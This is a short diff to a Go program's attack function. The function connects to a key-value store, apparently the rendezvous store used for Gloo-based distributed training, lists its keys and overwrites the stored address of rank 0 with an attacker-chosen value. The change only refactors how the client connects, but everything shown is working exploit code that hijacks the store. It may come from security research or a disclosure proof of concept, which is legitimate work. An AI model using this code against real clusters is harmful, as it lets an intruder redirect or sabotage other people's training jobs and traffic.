@@ -69,13 +69,11 @@ const gloosKey = "default_pg/0//cpu//0/0"
 // attack lists the keys and replaces the address of Gloo's rank 0.
 func attack(args []string) {
 	ctx := context.Background()
-	l := newLink(try(net.Dial("tcp", args[0])))
-	c := &Client{addr: args[0]}
-	if err := c.greet(ctx, l); err != nil {
+	c := &Client{addr: args[0], links: map[*link]struct{}{}} // Dial would try again
+	if _, err := c.connect(ctx); err != nil {
 		fmt.Println("refused")
 		return
 	}
-	c.links = append(c.links, l)
 	fmt.Println(try(c.Keys(ctx)), c.Set(ctx, gloosKey, []byte("mine")))
 }
 
